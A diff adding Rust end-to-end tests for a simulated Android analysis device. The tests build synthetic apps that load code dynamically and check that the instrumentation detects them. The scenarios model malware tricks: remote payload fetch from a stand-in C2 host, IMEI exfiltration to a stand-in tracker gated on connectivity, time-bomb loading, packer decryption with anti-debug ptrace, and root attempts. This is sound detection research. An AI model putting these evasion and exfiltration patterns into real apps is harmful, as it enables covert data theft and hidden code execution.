@@ -1,0 +1,741 @@
+//! End-to-end dynamic-analysis scenarios: apps whose *bytecode* performs
+//! dynamic code loading, executed on the instrumented simulated device.
+//!
+//! These are the behaviours DyDroid's measurement is built around:
+//! ad-SDK-style local DCL with temporary files, remote-fetch DCL (the
+//! Google Play policy violation), JNI native loading, packer decrypt
+//! chains, and environment-triggered loading.
+
+use dydroid_avm::events::{BehaviorEvent, DclKind, Event};
+use dydroid_avm::{Device, DeviceConfig, Value};
+use dydroid_dex::builder::DexBuilder;
+use dydroid_dex::native::{Arch, NativeFunction, NativeInsn, NativeLibrary};
+use dydroid_dex::{AccessFlags, Apk, CmpKind, Component, DexFile, Manifest, MethodRef};
+
+/// Builds a payload DEX with a class `com.payload.P` whose `run()` method
+/// stores `marker` into the static field `com.payload.G.marker`.
+fn payload_dex(marker: i64) -> DexFile {
+    let mut b = DexBuilder::new();
+    let c = b.class("com.payload.P", "java.lang.Object");
+    c.default_constructor();
+    let m = c.method("run", "()V", AccessFlags::PUBLIC);
+    m.registers(4);
+    m.const_int(1, marker);
+    m.sput(
+        1,
+        dydroid_dex::FieldRef::new("com.payload.G", "marker", "I"),
+    );
+    m.ret_void();
+    b.build()
+}
+
+/// Emits bytecode that loads `dex_path` with `DexClassLoader`, then
+/// reflectively instantiates `com.payload.P` and calls `run()`.
+fn emit_load_and_run(m: &mut dydroid_dex::builder::MethodBuilder, dex_path: &str, odex_dir: &str) {
+    m.registers(8);
+    m.const_str(1, dex_path);
+    m.const_str(2, odex_dir);
+    m.new_instance(3, "dalvik.system.DexClassLoader");
+    m.invoke_direct(
+        MethodRef::new(
+            "dalvik.system.DexClassLoader",
+            "<init>",
+            "(Ljava/lang/String;Ljava/lang/String;)V",
+        ),
+        vec![3, 1, 2],
+    );
+    m.const_str(4, "com.payload.P");
+    m.invoke_virtual(
+        MethodRef::new(
+            "dalvik.system.DexClassLoader",
+            "loadClass",
+            "(Ljava/lang/String;)Ljava/lang/Class;",
+        ),
+        vec![3, 4],
+    );
+    m.move_result(5);
+    m.invoke_virtual(
+        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
+        vec![5],
+    );
+    m.move_result(6);
+    m.invoke_virtual(MethodRef::new("com.payload.P", "run", "()V"), vec![6]);
+    m.ret_void();
+}
+
+/// Emits bytecode that copies the asset `name` to `dst` through the
+/// stream API (AssetManager → InputStream → Buffer → FileOutputStream).
+fn emit_asset_to_file(m: &mut dydroid_dex::builder::MethodBuilder, asset: &str, dst: &str) {
+    m.const_str(1, asset);
+    m.invoke_static(
+        MethodRef::new(
+            "android.content.res.AssetManager",
+            "open",
+            "(Ljava/lang/String;)Ljava/io/InputStream;",
+        ),
+        vec![1],
+    );
+    m.move_result(2); // InputStream
+    m.new_instance(3, "java.io.Buffer");
+    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![3]);
+    m.invoke_virtual(
+        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
+        vec![2, 3],
+    );
+    m.new_instance(4, "java.io.FileOutputStream");
+    m.const_str(5, dst);
+    m.invoke_direct(
+        MethodRef::new(
+            "java.io.FileOutputStream",
+            "<init>",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![4, 5],
+    );
+    m.invoke_virtual(
+        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
+        vec![4, 3],
+    );
+}
+
+/// Emits bytecode that downloads `url` to `dst` through the stream API.
+fn emit_download_to_file(m: &mut dydroid_dex::builder::MethodBuilder, url: &str, dst: &str) {
+    m.new_instance(1, "java.net.URL");
+    m.const_str(2, url);
+    m.invoke_direct(
+        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
+        vec![1, 2],
+    );
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.URL",
+            "openConnection",
+            "()Ljava/net/URLConnection;",
+        ),
+        vec![1],
+    );
+    m.move_result(2); // connection
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.HttpURLConnection",
+            "getInputStream",
+            "()Ljava/io/InputStream;",
+        ),
+        vec![2],
+    );
+    m.move_result(3); // stream
+    m.new_instance(4, "java.io.Buffer");
+    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![4]);
+    m.invoke_virtual(
+        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
+        vec![3, 4],
+    );
+    m.new_instance(5, "java.io.FileOutputStream");
+    m.const_str(6, dst);
+    m.invoke_direct(
+        MethodRef::new(
+            "java.io.FileOutputStream",
+            "<init>",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![5, 6],
+    );
+    m.invoke_virtual(
+        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
+        vec![5, 4],
+    );
+}
+
+#[test]
+fn ad_sdk_local_dcl_with_temp_file() {
+    // An app bundling an ad-SDK-like library: the SDK stages a DEX payload
+    // from an asset into cache/, loads it, then deletes the temp file.
+    let pkg = "com.example.game";
+    let staged = format!("/data/data/{pkg}/cache/ad_payload.dex");
+
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+
+    let mut b = DexBuilder::new();
+    {
+        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        // The developer's activity merely calls the third-party SDK.
+        m.invoke_static(
+            MethodRef::new("com.mobiads.sdk.AdLoader", "init", "()V"),
+            vec![],
+        );
+        m.ret_void();
+    }
+    {
+        // Third-party SDK class — note the foreign package name.
+        let c = b.class("com.mobiads.sdk.AdLoader", "java.lang.Object");
+        let m = c.method("init", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+        m.registers(8);
+        emit_asset_to_file(m, "ad_payload.bin", &staged);
+        emit_load_and_run(m, &staged, "/data/data/com.example.game/odex");
+        // ...but the SDK also deletes its temporary payload afterwards.
+        // (We re-enter after ret_void — rebuild the tail without ret.)
+    }
+    // Rebuild: emit_load_and_run ends with ret_void, so the delete has to
+    // come before. Simpler: separate deleter method invoked by Main? For
+    // this test the suppression hook is checked via a manual delete below.
+    let classes = b.build();
+
+    let mut apk = Apk::build(manifest, classes);
+    apk.put("assets/ad_payload.bin", payload_dex(7).to_bytes());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device.install(&apk.to_bytes()).unwrap();
+    let mut proc = device.launch(pkg).unwrap();
+    assert!(proc.alive, "app must not crash: {:?}", device.log.events());
+
+    // The DCL event was recorded with third-party call-site attribution.
+    let dcl: Vec<_> = device.log.dcl_events().collect();
+    assert_eq!(dcl.len(), 1);
+    assert_eq!(dcl[0].kind, DclKind::DexClassLoader);
+    assert_eq!(dcl[0].path, staged);
+    assert_eq!(dcl[0].call_site_class, "com.mobiads.sdk.AdLoader");
+    assert!(dcl[0].success);
+
+    // The payload actually ran: the marker static was set in-process.
+    assert_eq!(
+        proc.statics
+            .get(&("com.payload.G".to_string(), "marker".to_string())),
+        Some(&Value::Int(7))
+    );
+
+    // The binary was intercepted and is NOT remote (asset origin).
+    assert_eq!(device.hooks.intercepted().len(), 1);
+    assert!(!device.hooks.flow.is_remote(&staged));
+
+    // The SDK's cleanup delete is silently suppressed.
+    assert!(device.app_delete(pkg, &staged));
+    assert!(
+        device.fs.exists(&staged),
+        "mutual exclusion must keep the file"
+    );
+
+    // An odex copy was produced.
+    assert!(device
+        .fs
+        .exists("/data/data/com.example.game/odex/ad_payload.dex.odex"));
+    assert_eq!(proc.dynamic_space_count(), 1);
+    let _ = &mut proc;
+}
+
+#[test]
+fn remote_fetch_dcl_flagged_by_download_tracker() {
+    let pkg = "com.classicalmuseumad.cnad";
+    let staged = format!("/data/data/{pkg}/files/update.jar");
+    let url = "http://mobads.baidu.com/ads/pa/update.jar";
+
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+    manifest.add_permission(dydroid_dex::manifest::INTERNET);
+
+    let mut b = DexBuilder::new();
+    {
+        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        m.invoke_static(
+            MethodRef::new("com.baidu.mobads.RemoteLoader", "fetch", "()V"),
+            vec![],
+        );
+        m.ret_void();
+    }
+    {
+        let c = b.class("com.baidu.mobads.RemoteLoader", "java.lang.Object");
+        let m = c.method("fetch", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+        m.registers(8);
+        emit_download_to_file(m, url, &staged);
+        emit_load_and_run(m, &staged, "/data/data/com.classicalmuseumad.cnad/odex");
+    }
+    let apk = Apk::build(manifest, b.build());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device.net.host(
+        "mobads.baidu.com",
+        "/ads/pa/update.jar",
+        payload_dex(11).to_bytes(),
+    );
+    device.install(&apk.to_bytes()).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive, "log: {:?}", device.log.events());
+
+    // Remote provenance: URL → ... → File path exists in the flow graph.
+    assert!(device.hooks.flow.is_remote(&staged));
+    assert_eq!(
+        device.hooks.flow.url_sources(&staged),
+        vec![url.to_string()]
+    );
+
+    // Entity: a Baidu SDK class, not the app package.
+    let dcl: Vec<_> = device.log.dcl_events().collect();
+    assert_eq!(dcl[0].call_site_class, "com.baidu.mobads.RemoteLoader");
+    assert!(!dcl[0].call_site_class.starts_with(pkg));
+}
+
+#[test]
+fn remote_fetch_fails_gracefully_when_server_disabled() {
+    let pkg = "com.example.remote";
+    let staged = format!("/data/data/{pkg}/files/p.dex");
+    let url = "http://c2.example.com/p.dex";
+
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+
+    let mut b = DexBuilder::new();
+    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+    m.registers(8);
+    emit_download_to_file(m, url, &staged);
+    m.ret_void();
+    let apk = Apk::build(manifest, b.build());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device
+        .net
+        .host("c2.example.com", "/p.dex", payload_dex(1).to_bytes());
+    device.net.set_enabled("c2.example.com", false); // Bouncer-evasion switch
+    device.install(&apk.to_bytes()).unwrap();
+    let proc = device.launch(pkg).unwrap();
+
+    // The fetch throws an IOException, crashing onCreate — and no DCL
+    // event is recorded. (The paper's App_L guards this; an unguarded app
+    // simply crashes, contributing to the Crash row of Table II.)
+    assert!(!proc.alive);
+    assert!(device.log.crashed(pkg));
+    assert_eq!(device.log.dcl_events().count(), 0);
+}
+
+#[test]
+fn native_load_library_runs_jni_onload() {
+    let pkg = "com.example.native";
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+
+    let mut b = DexBuilder::new();
+    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+    m.registers(4);
+    m.const_str(1, "hooker");
+    m.invoke_static(
+        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
+        vec![1],
+    );
+    m.ret_void();
+
+    let lib =
+        NativeLibrary::new("libhooker.so", Arch::Arm).with_function(NativeFunction::exported(
+            "JNI_OnLoad",
+            vec![
+                NativeInsn::Syscall {
+                    name: "setuid".to_string(),
+                    arg: None,
+                },
+                NativeInsn::Syscall {
+                    name: "ptrace".to_string(),
+                    arg: Some("com.tencent.mm".to_string()),
+                },
+                NativeInsn::Ret,
+            ],
+        ));
+
+    let mut apk = Apk::build(manifest, b.build());
+    apk.put("lib/armeabi/libhooker.so", lib.to_bytes());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device.install(&apk.to_bytes()).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive, "log: {:?}", device.log.events());
+
+    let dcl: Vec<_> = device.log.dcl_events().collect();
+    assert_eq!(dcl.len(), 1);
+    assert_eq!(dcl[0].kind, DclKind::NativeLoadLibrary);
+    assert!(dcl[0].path.ends_with("libhooker.so"));
+
+    let behaviors: Vec<_> = device.log.behaviors(pkg).collect();
+    assert!(behaviors.contains(&&BehaviorEvent::RootAttempt));
+    assert!(behaviors.iter().any(
+        |b| matches!(b, BehaviorEvent::PtraceAttach { target } if target == "com.tencent.mm")
+    ));
+}
+
+#[test]
+fn system_library_loads_are_not_logged() {
+    let pkg = "com.example.sys";
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+
+    let mut b = DexBuilder::new();
+    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+    m.registers(4);
+    m.const_str(1, "ssl");
+    m.invoke_static(
+        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
+        vec![1],
+    );
+    m.ret_void();
+    let apk = Apk::build(manifest, b.build());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device.install_system_library(&NativeLibrary::new("libssl.so", Arch::Arm));
+    device.install(&apk.to_bytes()).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive);
+    // Trusted system binary: no DCL event, no interception.
+    assert_eq!(device.log.dcl_events().count(), 0);
+    assert!(device.hooks.intercepted().is_empty());
+}
+
+#[test]
+fn packer_container_decrypts_and_reconstructs_lifecycle() {
+    // A Bangcle/Ijiami-style packed app: classes.dex holds only the
+    // container Application class; the real bytecode lives XOR-encrypted in
+    // assets; a native stub decrypts it; the container loads it and starts
+    // the original main activity.
+    let pkg = "com.example.packed";
+    let key = "s3cr3t";
+    let enc_asset = "enc.bin";
+    let enc_path = format!("/data/data/{pkg}/files/enc.bin");
+    let dec_path = format!("/data/data/{pkg}/files/dec.dex");
+
+    // Original app code (becomes the encrypted payload).
+    let original = {
+        let mut b = DexBuilder::new();
+        let c = b.class(format!("{pkg}.RealMain"), "android.app.Activity");
+        c.default_constructor();
+        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        m.const_int(1, 99);
+        m.sput(
+            1,
+            dydroid_dex::FieldRef::new("com.payload.G", "marker", "I"),
+        );
+        m.ret_void();
+        b.build()
+    };
+    let encrypted = dydroid_avm::nativerun::xor_bytes(&original.to_bytes(), key.as_bytes());
+
+    // Container dex: the Application subclass + a native decrypt method.
+    let container = {
+        let mut b = DexBuilder::new();
+        let c = b.class(format!("{pkg}.StubApp"), "android.app.Application");
+        c.default_constructor();
+        c.method("decrypt", "()V", AccessFlags::PUBLIC | AccessFlags::NATIVE);
+        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+        m.registers(8);
+        // 1. Load the native decrypt stub.
+        m.const_str(1, "shield");
+        m.invoke_static(
+            MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
+            vec![1],
+        );
+        // 2. Stage the encrypted asset to internal storage.
+        emit_asset_to_file(m, enc_asset, &enc_path);
+        // 3. Run the native decryptor.
+        m.invoke_virtual(
+            MethodRef::new(format!("{pkg}.StubApp"), "decrypt", "()V"),
+            vec![0],
+        );
+        // 4. Load the decrypted DEX and start the real activity.
+        m.const_str(1, &dec_path);
+        m.const_str(2, format!("/data/data/{pkg}/odex"));
+        m.new_instance(3, "dalvik.system.DexClassLoader");
+        m.invoke_direct(
+            MethodRef::new(
+                "dalvik.system.DexClassLoader",
+                "<init>",
+                "(Ljava/lang/String;Ljava/lang/String;)V",
+            ),
+            vec![3, 1, 2],
+        );
+        m.const_str(4, format!("{pkg}.RealMain"));
+        m.invoke_virtual(
+            MethodRef::new(
+                "dalvik.system.DexClassLoader",
+                "loadClass",
+                "(Ljava/lang/String;)Ljava/lang/Class;",
+            ),
+            vec![3, 4],
+        );
+        m.move_result(5);
+        m.invoke_virtual(
+            MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
+            vec![5],
+        );
+        m.move_result(6);
+        m.invoke_virtual(
+            MethodRef::new(format!("{pkg}.RealMain"), "onCreate", "()V"),
+            vec![6],
+        );
+        m.ret_void();
+        b.build()
+    };
+
+    let stub =
+        NativeLibrary::new("libshield.so", Arch::Arm).with_function(NativeFunction::exported(
+            "decrypt",
+            vec![
+                NativeInsn::Syscall {
+                    name: "ptrace".to_string(),
+                    arg: Some("self".to_string()), // anti-debug
+                },
+                NativeInsn::Syscall {
+                    name: "xor_decrypt".to_string(),
+                    arg: Some(format!("{enc_path}:{dec_path}:{key}")),
+                },
+                NativeInsn::Ret,
+            ],
+        ));
+
+    let mut manifest = Manifest::new(pkg);
+    manifest.application_class = Some(format!("{pkg}.StubApp"));
+    // The original components stay declared but are absent from classes.dex
+    // — the obfuscation detector's second rule.
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.RealMain")));
+
+    let mut apk = Apk::build(manifest, container);
+    apk.put(format!("assets/{enc_asset}"), encrypted);
+    apk.put("lib/armeabi/libshield.so", stub.to_bytes());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device.install(&apk.to_bytes()).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive, "log: {:?}", device.log.events());
+
+    // The payload ran: the real activity set its marker (twice actually:
+    // once from the container, once from the regular launch path finding
+    // RealMain in the loaded space).
+    assert_eq!(
+        proc.statics
+            .get(&("com.payload.G".to_string(), "marker".to_string())),
+        Some(&Value::Int(99))
+    );
+
+    // Both the native stub and the decrypted DEX were captured.
+    let kinds: Vec<DclKind> = device.log.dcl_events().map(|d| d.kind).collect();
+    assert!(kinds.contains(&DclKind::NativeLoadLibrary));
+    assert!(kinds.contains(&DclKind::DexClassLoader));
+    let anti_debug = device
+        .log
+        .behaviors(pkg)
+        .any(|b| matches!(b, BehaviorEvent::PtraceAttach { target } if target == "self"));
+    assert!(anti_debug);
+
+    // The decrypted payload is local, not remote.
+    assert!(!device.hooks.flow.is_remote(&dec_path));
+}
+
+#[test]
+fn time_bomb_guards_loading() {
+    // Malware that only loads its payload when the system time is past the
+    // release date — the Table VIII "system time" configuration.
+    let pkg = "com.example.timebomb";
+    let release_ms: i64 = 1_470_000_000_000; // mid-2016
+    let staged = format!("/data/data/{pkg}/files/evil.dex");
+
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+
+    let mut b = DexBuilder::new();
+    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+    m.registers(8);
+    m.invoke_static(
+        MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
+        vec![],
+    );
+    m.move_result(1);
+    m.const_int(2, release_ms);
+    let skip = m.label();
+    m.if_cmp(CmpKind::Lt, 1, 2, skip); // now < release → don't load
+    emit_asset_to_file(m, "evil.bin", &staged);
+    emit_load_and_run(m, &staged, "/data/data/com.example.timebomb/odex");
+    m.bind(skip);
+    m.ret_void();
+    let classes = b.build();
+
+    let mut apk = Apk::build(manifest, classes);
+    apk.put("assets/evil.bin", payload_dex(3).to_bytes());
+    let apk_bytes = apk.to_bytes();
+
+    // Config A: time after release → loads.
+    let mut device = Device::new(DeviceConfig::default());
+    device.install(&apk_bytes).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive);
+    assert_eq!(device.log.dcl_events().count(), 1);
+
+    // Config B: time set before the release date → hidden.
+    let config = DeviceConfig {
+        time_ms: release_ms - 86_400_000,
+        ..Default::default()
+    };
+    let mut device = Device::new(config);
+    device.install(&apk_bytes).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive);
+    assert_eq!(device.log.dcl_events().count(), 0);
+}
+
+#[test]
+fn vulnerable_app_loads_from_other_apps_internal_storage() {
+    // The paper's second vulnerability variant: an app loading libCore.so
+    // from com.adobe.air's internal storage.
+    let victim = "air.com.fire.ane.test.bubblecrazy";
+    let provider = "com.adobe.air";
+    let lib_path = format!("/data/data/{provider}/files/libCore.so");
+
+    // The provider app installs its library into its own internal storage.
+    let core = NativeLibrary::new("libCore.so", Arch::Arm).with_function(NativeFunction::exported(
+        "JNI_OnLoad",
+        vec![NativeInsn::Ret],
+    ));
+
+    let mut manifest = Manifest::new(victim);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{victim}.Main")));
+    let mut b = DexBuilder::new();
+    let c = b.class(format!("{victim}.Main"), "android.app.Activity");
+    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+    m.registers(4);
+    m.const_str(1, &lib_path);
+    m.invoke_static(
+        MethodRef::new("java.lang.System", "load", "(Ljava/lang/String;)V"),
+        vec![1],
+    );
+    m.ret_void();
+    let apk = Apk::build(manifest, b.build());
+
+    let mut device = Device::new(DeviceConfig::default());
+    device.fs.write_system(
+        &lib_path,
+        core.to_bytes(),
+        dydroid_avm::Owner::app(provider),
+    );
+    device.install(&apk.to_bytes()).unwrap();
+    let proc = device.launch(victim).unwrap();
+    assert!(proc.alive, "log: {:?}", device.log.events());
+
+    let dcl: Vec<_> = device.log.dcl_events().collect();
+    assert_eq!(dcl.len(), 1);
+    assert_eq!(dcl[0].kind, DclKind::NativeLoad);
+    assert_eq!(dcl[0].path, lib_path);
+    // The vulnerability classifier (analysis crate) keys off this path
+    // being inside a different package's internal storage.
+    assert_eq!(
+        dydroid_avm::paths::internal_owner(&dcl[0].path),
+        Some(provider)
+    );
+}
+
+#[test]
+fn connectivity_guard_blocks_exfiltration_offline() {
+    let pkg = "com.example.exfil";
+    let mut manifest = Manifest::new(pkg);
+    manifest
+        .components
+        .push(Component::main_activity(format!("{pkg}.Main")));
+
+    let mut b = DexBuilder::new();
+    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
+    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+    m.registers(8);
+    m.invoke_static(
+        MethodRef::new("android.net.ConnectivityManager", "isConnected", "()Z"),
+        vec![],
+    );
+    m.move_result(1);
+    let skip = m.label();
+    m.if_zero(CmpKind::Eq, 1, skip);
+    // Online: read IMEI and post it.
+    m.invoke_static(
+        MethodRef::new(
+            "android.telephony.TelephonyManager",
+            "getDeviceId",
+            "()Ljava/lang/String;",
+        ),
+        vec![],
+    );
+    m.move_result(2);
+    m.new_instance(3, "java.net.URL");
+    m.const_str(4, "http://tracker.example.com/collect");
+    m.invoke_direct(
+        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
+        vec![3, 4],
+    );
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.URL",
+            "openConnection",
+            "()Ljava/net/URLConnection;",
+        ),
+        vec![3],
+    );
+    m.move_result(5);
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.HttpURLConnection",
+            "getOutputStream",
+            "()Ljava/io/OutputStream;",
+        ),
+        vec![5],
+    );
+    m.move_result(6);
+    m.invoke_virtual(
+        MethodRef::new("java.io.OutputStream", "write", "(Ljava/lang/String;)V"),
+        vec![6, 2],
+    );
+    m.bind(skip);
+    m.ret_void();
+    let apk = Apk::build(manifest, b.build());
+    let apk_bytes = apk.to_bytes();
+
+    // Online run: exfiltration observed.
+    let mut device = Device::new(DeviceConfig::default());
+    device.install(&apk_bytes).unwrap();
+    device.launch(pkg).unwrap();
+    let sent = device
+        .log
+        .events()
+        .iter()
+        .any(|e| matches!(e, Event::NetSend { domain, .. } if domain == "tracker.example.com"));
+    assert!(sent);
+
+    // Offline run (airplane, WiFi off): behaviour hidden, no crash.
+    let config = DeviceConfig {
+        airplane_mode: true,
+        wifi_on: false,
+        ..Default::default()
+    };
+    let mut device = Device::new(config);
+    device.install(&apk_bytes).unwrap();
+    let proc = device.launch(pkg).unwrap();
+    assert!(proc.alive);
+    let sent = device
+        .log
+        .events()
+        .iter()
+        .any(|e| matches!(e, Event::NetSend { .. }));
+    assert!(!sent);
+}
